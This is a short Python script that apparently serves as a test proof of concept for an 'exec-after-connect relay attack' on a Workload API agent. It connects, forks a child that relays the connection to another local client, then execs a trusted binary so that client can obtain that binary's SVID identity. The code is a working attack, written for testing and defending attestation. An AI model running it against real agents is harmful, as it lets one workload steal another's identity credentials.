"""The exec-after-connect relay attack on the Workload API (issue 11, item 1).

    exec_relay.py AGENT_SOCKET RELAY_SOCKET FILLERS exec TRUSTED_BINARY
    exec_relay.py AGENT_SOCKET RELAY_SOCKET FILLERS stay

1. Opens FILLERS connections to the agent, so that it has work queued
   before it sees ours.
2. Connects to the agent.
3. Forks a relay child that keeps the connection and relays it, byte for
   byte, to the first client of RELAY_SOCKET (which then asks the agent for
   an SVID over the inherited connection).
4. `exec`: replaces itself with TRUSTED_BINARY (argument "30": the test
   uses a copy of sleep). Python opens every socket close-on-exec, as Rust,
   Go, Java and gRPC's C core do. `stay`: the control; it keeps running as
   itself, holding the connection.
"""

import os
import select
import signal
import socket
import sys
import time


def relay(conn, relay_path):
    # Never outlive the test, whatever happens to it.
    signal.alarm(30)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(relay_path)
    server.listen(1)
    client, _ = server.accept()
    pair = {client: conn, conn: client}
    while True:
        readable, _, _ = select.select(list(pair), [], [])
        for sock in readable:
            data = sock.recv(65536)
            if not data:
                return
            pair[sock].sendall(data)


def main():
    agent, relay_path, fillers, mode = sys.argv[1:5]
    keep = []
    for _ in range(int(fillers)):
        filler = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        filler.setblocking(False)
        try:
            filler.connect(agent)
        except (BlockingIOError, InterruptedError):
            pass
        keep.append(filler)
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.connect(agent)
    if os.fork() == 0:
        try:
            relay(conn, relay_path)
        finally:
            os._exit(0)
    if mode == "exec":
        trusted = sys.argv[5]
        os.execv(trusted, [trusted, "30"])
    time.sleep(30)


main()
